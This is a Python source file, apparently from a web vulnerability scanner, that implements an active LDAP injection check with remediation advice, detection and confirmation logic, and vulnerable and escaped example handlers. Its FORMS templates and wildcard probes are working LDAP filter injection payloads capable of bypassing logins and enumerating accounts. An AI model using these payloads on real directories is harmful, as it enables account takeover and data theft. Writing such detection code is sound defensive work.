r"""A value becomes part of an LDAP search filter.

What it looks for
Values that the application writes into a directory filter without escaping. Three kinds of assertions are tried: the
value with one character written as an escape (`\61` for `a`), which only a filter reads as that character; a further
condition behind the value, on an attribute that every entry has or on one that hardly any has; and a wildcard.

Why it matters
Directories hold accounts. Whoever can change a filter logs in as somebody else, lists all people, and reads attributes
letter by letter that no page shows.

How it is confirmed
A series of true and false assertions in random order on fresh connections must be followed until chance is ruled out,
and one that breaks the filter must not pass as true. Presence tests and their negations are mixed, so that no word of
the payload goes along with the outcome.

How to fix it
Escape every value as RFC 4515 demands (`*`, `(`, `)`, `\` and NUL as a backslash and two hexadecimal digits) with the
function of your library, or use its filter builder. Compare passwords by binding, never in a filter.

When it may be wrong
A finding that rests on an error message alone is firm: another component may word its complaints like a directory. A
search field that offers `*` as a wildcard on purpose is not reported for that alone.
"""

from __future__ import annotations

import fnmatch
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import parse_qsl, urlencode, urlsplit

from vedette.contract.checkinfo import CheckInfo, Kind, Phase, ProofLevel, Severity
from vedette.contract.exchange import Request, Response, Step
from vedette.engine.attack import errors
from vedette.engine.attack.compare import Model, blocked
from vedette.engine.attack.example import Example
from vedette.engine.attack.point import Point, PointKind, Target
from vedette.engine.attack.probe import Candidate, Probe, Proof
from vedette.engine.attack.rng import Rng
from vedette.engine.attack.series import Series, steps
from vedette.engine.checks.ldap.example_directory import directory, escaped

INFO = CheckInfo(
    id="ldap-injection",
    title="LDAP injection",
    kind=Kind.ACTIVE,
    phase=Phase.DETECT,
    severity=Severity.HIGH,
    proof=ProofLevel.CONFIRMED,
    cwe=(90,),
    cvss31="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:L/A:N",
    cvss40="CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:L/VA:N/SC:N/SI:N/SA:N",
    owasp="A03:2021",
    references=(
        "https://owasp.org/www-community/attacks/LDAP_Injection",
        "https://cheatsheetseries.owasp.org/cheatsheets/LDAP_Injection_Prevention_Cheat_Sheet.html",
    ),
    tags=("injection", "ldap"),
    cost=2,
    wants=("changed", "odd", "failed", "error:ldap"),
    points=("query", "path", "form", "json", "xml", "multipart", "name", "cookie", "header"),
    profiles=("safe", "normal", "full"),
)

ABSENT = ("telexNumber", "x121Address", "destinationIndicator", "teletexTerminalIdentifier", "registeredAddress")
"""Standard attributes that hardly any entry has. A made-up one would make its negation undefined, not true."""

LETTERS = "aeionrst01"
"""Of these at least one stands in nearly every value of a directory."""


def condition(rng: Rng, truth: bool | None) -> str:
    """A filter without its outer parentheses, true of every entry or of none; None: not a filter."""
    absent = rng.choice(list(ABSENT))
    if truth is None:
        return f"{absent}=*)((objectClass"
    plain, negated = ("objectClass", absent) if truth else (absent, "objectClass")
    return rng.choice([f"{plain}=*", f"!({negated}=*)"])


def _escape(value: str, rng: Rng, truth: bool | None) -> str:
    places = [index for index, letter in enumerate(value) if _plain(letter)]
    place = rng.choice(places)
    code = ord(value[place]) + (0 if truth else 1)
    digits = f"{code:02x}" if truth is not None else "zz"
    return f"{value[:place]}\\{digits}{value[place + 1 :]}"


def _plain(letter: str) -> bool:
    return letter.isascii() and letter.isalnum()


@dataclass(frozen=True, slots=True)
class Form:
    """How an assertion is written at one kind of place; `keeps` as for a series."""

    name: str
    write: Callable[[str, Rng, bool | None], str]
    keeps: bool


def _with(template: str) -> Callable[[str, Rng, bool | None], str]:
    def write(value: str, rng: Rng, truth: bool | None) -> str:
        return template.format(v=value, c=condition(rng, truth), a=rng.choice(list(ABSENT)))

    return write


FORMS = (
    Form("escape", _escape, True),
    Form("further", _with("{v})({c})(objectClass=*"), True),
    Form("further-wildcard", _with("{v}*)({c})(objectClass=*"), True),
    Form("either", _with("{v})({c})({a}=*"), False),
    Form("anyone", _with("*)({c})(objectClass=*"), False),
    Form("cut-off", _with("*)({c}))(|({a}=*"), False),
)
"""The last one leaves a second filter behind the first, which many libraries ignore."""

BROKEN, COMPLETED = "{v})({x}", "{v}\\29\\28{x}"


async def detect(probe: Probe, point: Point) -> list[Candidate]:
    """One candidate for the first form that is followed, or for a parser's complaint."""
    model = await probe.baseline(point)
    if not probe.full:
        return await _cheap(probe, point, model) if model.stable else []
    for form in FORMS if model.stable else ():
        if form.write is _escape and not any(map(_plain, point.value)):
            continue
        series = _series(probe, point, model, form)
        if await series.suspect() and await series.replicate():
            return [_candidate(point, form.name)]
        if series.blocked:
            return []
    if model.stable and await _reads_wildcards(probe, point, model):
        return [_candidate(point, "wildcard")]
    return [_candidate(point, "error")] if await _complaint(probe, point, model, fresh=False) else []


async def verify(probe: Probe, candidate: Candidate) -> Proof | None:
    """The whole series on fresh connections with the original value as control; for a complaint, the pair twice."""
    point, name = candidate.point, candidate.data["form"]
    if point is None:
        return None
    model = await probe.baseline(point)
    if name == "error":
        return await _complained(probe, point, model)
    form = next((item for item in FORMS if item.name == name), None) or await _letter_form(probe, point, model)
    if form is None or not model.stable:
        return None
    series = _series(probe, point, model, form, fresh=True)
    if not await series.confirm():
        return None
    control = await series.unchanged()
    if control is None:
        return None
    detail = f"The answer followed {len(series.trials) - 1} true and false filter assertions in random order."
    return Proof(level=ProofLevel.CONFIRMED, detail=detail, steps=(*steps(series.trials), control))


def _candidate(point: Point, form: str) -> Candidate:
    return Candidate(check=INFO.id, point=point, data={"form": form})


def _series(probe: Probe, point: Point, model: Model, form: Form, *, fresh: bool = False) -> Series:
    def ask(truth: bool | None) -> str:
        return form.write(point.value, probe.rng, truth)

    return Series(probe, point, model, ask, keeps=form.keeps, fresh=fresh)


async def _cheap(probe: Probe, point: Point, model: Model) -> list[Candidate]:
    """Where another value changes nothing, only assertions that select more can show: two requests.

    A path segment that leads nowhere when it is another must lead to the same page when it is only written otherwise.
    """
    if "missing" in probe.reaction.signs:
        letters = any(map(_plain, point.value))
        return (
            [_candidate(point, "escape")] if letters and await _series(probe, point, model, FORMS[0]).suspect() else []
        )
    star = await probe.send(point, "*")
    if blocked(star) or not star.usable:
        return []
    if not model.same(star, "*"):
        return [_candidate(point, "wildcard")] if await _selects_nothing(probe, point, model) else []
    payload = FORMS[-1].write(point.value, probe.rng, True)
    answer = await probe.send(point, payload)
    clear = not blocked(answer) and answer.usable
    return [_candidate(point, "cut-off")] if clear and not model.same(answer, payload) else []


async def _reads_wildcards(probe: Probe, point: Point, model: Model) -> bool:
    star = await probe.send(point, "*")
    if blocked(star) or not star.usable or model.same(star, "*"):
        return False
    if not await _selects_nothing(probe, point, model):
        return False
    # A page that changes now and then by itself seldom changes to the same one twice.
    again = await probe.send(point, "*")
    return again.usable and model.alike(star, again, "*", "*")


async def _selects_nothing(probe: Probe, point: Point, model: Model) -> bool:
    payload = f"*{probe.rng.word(9)}*"
    answer = await probe.send(point, payload)
    return answer.usable and model.same(answer, payload)


async def _letter_form(probe: Probe, point: Point, model: Model) -> Form | None:
    """A form for fields that read `*`: a letter that occurs in the hidden value, written as an escape. Wildcards alone
    are a feature of many search fields; escapes in them are a filter's."""
    for letter in probe.rng.shuffled(list(LETTERS)):
        answer = await probe.send(point, f"*{letter}*", fresh=True)
        if blocked(answer) or not answer.usable:
            return None
        if not model.same(answer, f"*{letter}*"):
            return Form("wildcard", _letter(letter), False)
    return None


def _letter(letter: str) -> Callable[[str, Rng, bool | None], str]:
    def write(value: str, rng: Rng, truth: bool | None) -> str:
        if truth is None:
            return "*\\zz*"
        return f"*\\{ord(letter if truth else rng.choice(list('~^{}|`'))):02x}*"

    return write


async def _complaint(probe: Probe, point: Point, model: Model, *, fresh: bool) -> list[Step]:
    """A value that breaks the filter with the parser's complaint, and the same escaped without."""
    shown: list[Step] = []
    for template in (BROKEN, COMPLETED):
        payload = template.format(v=point.value, x=probe.rng.word(4))
        exchange = await probe.send(point, payload, fresh=fresh)
        if blocked(exchange) or not exchange.usable:
            return []
        text = errors.new_errors(exchange, model, payload).get("ldap", ("", ""))[1]
        if bool(text) != (template is BROKEN):
            return []
        shown.append(
            Step("Broken value", exchange, (text,), "The filter's parser complains.", request_marks=(payload,))
            if text
            else Step("Escaped value", exchange, (), "The same characters escaped: no complaint.", True, (payload,))
        )
    return shown


async def _complained(probe: Probe, point: Point, model: Model) -> Proof | None:
    first = await _complaint(probe, point, model, fresh=True)
    second = await _complaint(probe, point, model, fresh=True) if first else []
    if not second:
        return None
    detail = "The filter's parser complained about parentheses twice, and not about the same ones escaped."
    return Proof(level=ProofLevel.FIRM, detail=detail, steps=(*first, *second))


def _query(value: str) -> Point:
    request = Request("GET", f"http://shop.example/staff?who={value}")
    return Point(Target(request, "/staff"), PointKind.QUERY, "who", value)


def _path(value: str) -> Point:
    path = f"/staff/{value}"
    return Point(Target(Request("GET", f"http://shop.example{path}"), path), PointKind.PATH, "1", value)


def _form(name: str, value: str) -> Point:
    fields = {"user": "mira", "password": "wrong", name: value}
    body = urlencode(fields).encode()
    headers = (("Content-Type", "application/x-www-form-urlencoded"),)
    return Point(
        Target(Request("POST", "http://shop.example/login", headers, body), "/login"), PointKind.FORM, name, value
    )


def _cookie(value: str) -> Point:
    request = Request("GET", "http://shop.example/staff", (("Cookie", f"who={value}"),))
    return Point(Target(request, "/staff"), PointKind.COOKIE, "who", value)


def _globbed(request: Request) -> Response:
    """A search in file names, with wildcards as its feature."""
    wanted = dict(parse_qsl(urlsplit(request.url).query)).get("who", "")
    found = fnmatch.filter(["mira.txt", "otto.txt"], wanted)
    body = f"<html><body>{''.join(f'<li>{name}</li>' for name in found)}</body></html>"
    return Response(200, (("Content-Type", "text/html"),), body.encode())


_LISTED = "(&(objectClass=person)(uid={}))"
_ANY = "(|(cn=*{}*)(mail=*{}*))"

EXAMPLES = (
    Example(name="person by name", vulnerable=True, handler=directory(_LISTED, "who"), point=_query("mira")),
    Example(name="search in two attributes", vulnerable=True, handler=directory(_ANY, "who"), point=_query("otto")),
    Example(name="nobody found so far", vulnerable=True, handler=directory(_LISTED, "who"), point=_query("nobody")),
    Example(
        name="password in the filter",
        vulnerable=True,
        handler=directory("(&(uid=mira)(userPassword={}))", "password", show="found"),
        point=_form("password", "wrong"),
    ),
    Example(name="cookie", vulnerable=True, handler=directory(_LISTED, "who"), point=_cookie("otto")),
    Example(name="name in the path", vulnerable=True, handler=directory(_LISTED, "", show="page"), point=_path("mira")),
    Example(
        name="escaped name in the path",
        vulnerable=False,
        handler=directory(_LISTED, "", read=escaped, show="page"),
        point=_path("mira"),
    ),
    Example(
        name="parser's words",
        vulnerable=True,
        handler=directory("(&(objectClass=robot)(uid={}))", "who", show="error"),
        point=_query("mira"),
    ),
    Example(name="escaped", vulnerable=False, handler=directory(_LISTED, "who", read=escaped), point=_query("mira")),
    Example(
        name="escaped log-in",
        vulnerable=False,
        handler=directory("(&(uid=mira)(userPassword={}))", "password", read=escaped, show="found"),
        point=_form("password", "wrong"),
    ),
    Example(name="wildcards as a feature", vulnerable=False, handler=_globbed, point=_query("none")),
)
